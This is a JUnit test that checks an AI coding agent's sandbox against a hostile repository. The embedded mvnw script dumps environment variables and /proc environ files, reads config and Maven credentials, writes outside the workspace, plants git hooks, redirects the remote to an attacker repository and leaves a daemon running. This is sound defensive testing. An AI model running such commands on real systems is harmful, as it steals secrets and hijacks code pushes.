package dev.missions.droid.runtime.sandbox;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.missions.droid.runtime.tools.ToolConfig;
import dev.missions.droid.runtime.tools.WorkspaceTools;
import dev.missions.droid.runtime.workspace.GitCredentials;
import dev.missions.droid.runtime.workspace.Workspace;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.lib.PersonIdent;
import org.eclipse.jgit.lib.Repository;
import org.eclipse.jgit.lib.StoredConfig;
import org.eclipse.jgit.transport.RefSpec;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A repository whose build is an attacker: it hunts for the droid's secrets, writes outside the workspace, plants
 * git hooks, rewrites the remote, leaves a daemon and floods its output. It runs through the model's run_command in
 * the real bubblewrap sandbox; then the droid commits and pushes as it always does. The canaries are set in this
 * JVM's real environment by the build (droid-runtime's pom).
 */
class HostileRepositoryTest {

    private static final List<String> CANARIES = List.of("sk-canary-model-key-5f1d2e", "ghp_canary_git_token_8a7b6c",
            "canary-kafka-password-3e4f", "canary-db-password-9c8d", "canary-droid-config-7d6e");
    private static final String DAEMON_MARK = "4242424";

    @TempDir
    Path tmp;

    private Path outside;
    private Path realRemote;
    private Path evilRemote;
    private Workspace ws;

    @BeforeEach
    void hostileRepository() throws Exception {
        for (String name : List.of("CANARY_MODEL_API_KEY", "MISSIONS_DROID_GIT_TOKEN", "KAFKA_SASL_JAAS_CONFIG",
                "QUARKUS_DATASOURCE_PASSWORD")) {
            assertNotNull(System.getenv(name), name + " must be set in the droid's environment for this test to mean anything");
        }
        outside = Files.createDirectories(tmp.resolve("droid"));
        Files.writeString(outside.resolve("application.properties"), "missions.droid.secrets=canary-droid-config-7d6e\n");
        realRemote = bare("real.git");
        evilRemote = bare("evil.git");
        Path seed = tmp.resolve("seed");
        try (Git git = Git.init().setInitialBranch("main").setDirectory(seed.toFile()).call()) {
            Files.writeString(seed.resolve("README.md"), "# innocent project\n");
            Path mvnw = seed.resolve("mvnw");
            Files.writeString(mvnw, attack());
            Files.setPosixFilePermissions(mvnw, PosixFilePermissions.fromString("rwxr-xr-x"));
            git.add().addFilepattern(".").call();
            PersonIdent me = new PersonIdent("attacker", "a@example.invalid");
            git.commit().setMessage("looks harmless").setAuthor(me).setCommitter(me).setSign(false).call();
            git.push().setRemote(realRemote.toUri().toString())
                    .setRefSpecs(new RefSpec("refs/heads/main:refs/heads/main")).call();
        }
        ws = Workspace.open(realRemote.toUri().toString(), "main", "missions/m1", tmp.resolve("workspaces"),
                GitCredentials.none(), 64L * 1024 * 1024);
    }

    @AfterEach
    void close() {
        ws.close();
    }

    // The build script of the hostile repository; every line is an attempt, and none may succeed.
    private String attack() {
        String marks = outside.toString();
        return """
                #!/bin/sh
                echo "== flood"; yes flood | head -c 3000000
                echo "== env"; env
                echo "== environ"; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f"; done
                echo "== cmdline"; for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < "$f"; echo; done
                echo "== droid files"; cat %1$s/application.properties; ls -la %1$s /root; cat "$HOME/.m2/settings.xml" /root/.m2/settings.xml
                echo "== write outside"; echo pwned > %1$s/pwned; echo pwned > ../pwned
                echo "== hooks"
                for dir in .git/hooks ../git/hooks; do
                  mkdir -p $dir
                  for hook in pre-commit post-commit pre-push; do
                    printf '#!/bin/sh\\ntouch %1$s/hook-ran-%%s\\n' $hook > $dir/$hook; chmod +x $dir/$hook
                  done
                done
                echo "== remote"; git config remote.origin.url %2$s; printf '[remote "origin"]\\n\\turl = %2$s\\n' >> ../git/config
                echo "== daemon"; nohup sleep %3$s > /dev/null 2>&1 &
                echo "== done"
                """.formatted(marks, evilRemote.toUri(), DAEMON_MARK);
    }

    @Test
    void theBuildFindsNoSecretAndChangesNothingOfTheDroids() throws Exception {
        var tools = new WorkspaceTools(ws, ToolConfig.defaults().withCommandTimeout(Duration.ofMinutes(1))
                .withMaxOutputBytes(256 * 1024), TestSandboxes.bubblewrap(tmp.resolve("home")));

        String output = tools.run("./mvnw");

        assertTrue(output.startsWith("exit code 0"), output.substring(0, Math.min(500, output.length())));
        assertTrue(output.contains("== env") && output.contains("== done"), "the whole script ran:\n" + output);
        assertTrue(output.length() < 300 * 1024, "the flood is cut: " + output.length());
        for (String canary : CANARIES) {
            assertFalse(output.contains(canary), canary + " reached the build:\n" + around(output, canary));
        }
        assertFalse(output.contains("KAFKA_SASL_JAAS_CONFIG") || output.contains("MISSIONS_DROID_GIT_TOKEN"),
                "the droid's variable names are not there either");
        assertTrue(output.contains("HOME=/home/sandbox"), "HOME is the role's cache");
        try (Stream<Path> left = Files.list(outside)) {
            assertEquals(List.of(outside.resolve("application.properties")), left.toList(), "nothing written beside the droid's files");
        }
        assertFalse(Files.exists(ws.root().resolveSibling("pwned")), "nothing written beside the work tree");
        assertEquals(List.of(), ProcessHandle.allProcesses()
                .filter(p -> p.info().arguments().map(List::of).orElse(List.of()).contains(DAEMON_MARK)).toList(),
                "no daemon outlives the run");

        Files.writeString(ws.root().resolve("README.md"), "# innocent project\nchanged by the droid\n");
        ws.checkpoint("the droid's change");
        ws.push();

        try (Stream<Path> left = Files.list(outside)) {
            assertEquals(1, left.count(), "no planted hook ran on commit or push");
        }
        assertNotNull(Git.open(realRemote.toFile()).getRepository().findRef("refs/heads/missions/m1"),
                "the mission branch reached the real remote");
        assertNull(Git.open(evilRemote.toFile()).getRepository().findRef("refs/heads/missions/m1"),
                "and nothing reached the attacker's");
    }

    @Test
    void hooksAndARewrittenRemoteInTheDroidsOwnGitDirectoryAreIgnoredToo() throws Exception {
        // as if the sandbox had been got out of: hooks and remotes planted where the droid's git looks
        Repository repository = Git.open(ws.root().toFile()).getRepository();
        Path hooks = Files.createDirectories(repository.getDirectory().toPath().resolve("hooks"));
        for (String hook : List.of("pre-commit", "commit-msg", "post-commit", "pre-push")) {
            Path script = hooks.resolve(hook);
            Files.writeString(script, "#!/bin/sh\ntouch " + outside.resolve("hook-ran-" + hook) + "\n");
            Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr-xr-x"));
        }
        StoredConfig config = repository.getConfig();
        config.setString("remote", "origin", "url", evilRemote.toUri().toString());
        config.setString("remote", "origin", "pushurl", evilRemote.toUri().toString());
        config.setString("url", evilRemote.toUri().toString(), "insteadOf", realRemote.toUri().toString());
        config.setString("core", null, "hooksPath", hooks.toString());
        config.save();

        Files.writeString(ws.root().resolve("README.md"), "changed\n");
        ws.checkpoint("the droid's change");
        ws.push();

        try (Stream<Path> left = Files.list(outside)) {
            assertEquals(1, left.count(), "no hook ran");
        }
        assertNotNull(Git.open(realRemote.toFile()).getRepository().findRef("refs/heads/missions/m1"));
        assertNull(Git.open(evilRemote.toFile()).getRepository().findRef("refs/heads/missions/m1"));
    }

    private Path bare(String name) throws Exception {
        Path dir = tmp.resolve(name);
        Git.init().setBare(true).setInitialBranch("main").setDirectory(dir.toFile()).call().close();
        return dir;
    }

    private static String around(String text, String needle) {
        int at = text.indexOf(needle);
        return text.substring(Math.max(0, at - 300), Math.min(text.length(), at + 100));
    }
}
